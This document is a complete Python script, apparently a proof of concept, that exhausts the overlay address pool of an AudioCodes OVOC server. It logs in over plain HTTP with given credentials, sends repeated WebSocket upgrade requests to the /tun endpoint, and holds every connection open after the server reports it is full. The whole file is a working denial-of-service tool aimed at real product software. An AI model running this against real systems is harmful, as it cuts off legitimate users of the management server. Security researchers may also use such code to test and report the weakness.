# SPDX-License-Identifier: Apache-2.0
"""Takes overlay addresses of a plain-HTTP OVOC until it has none left.

Usage: address_taker.py ADDRESS PORT USER PASSWORD MOST. Prints the status
code of each upgrade; after the first that is not 101 it prints "full" and keeps
the connections open until the process is ended.
"""

import base64
import os
import socket
import sys
import time

_REQUEST = ("GET /tun HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
            "Sec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Protocol: ovoc.audiocodes.com\r\n"
            "Authorization: Basic {login}\r\n\r\n")


def upgrade(address: str, port: int, login: str) -> tuple[socket.socket, int]:
    """Opens a connection and asks for an upgrade; returns the status too."""
    connection = socket.create_connection((address, port), timeout=5)
    key = base64.b64encode(os.urandom(16)).decode()
    connection.sendall(_REQUEST.format(host=address, key=key,
                                       login=login).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += connection.recv(4096) or b"\r\n\r\n"
    return connection, int(head.split(b" ", 2)[1])


def main() -> None:
    """Does what the module says."""
    address, port, user, password, most = sys.argv[1:]
    login = base64.b64encode(f"{user}:{password}".encode()).decode()
    held = []
    for _ in range(int(most)):
        connection, status = upgrade(address, int(port), login)
        held.append(connection)
        print("status", status, flush=True)
        if status != 101:
            print("full", flush=True)
            time.sleep(3600)


if __name__ == "__main__":
    main()
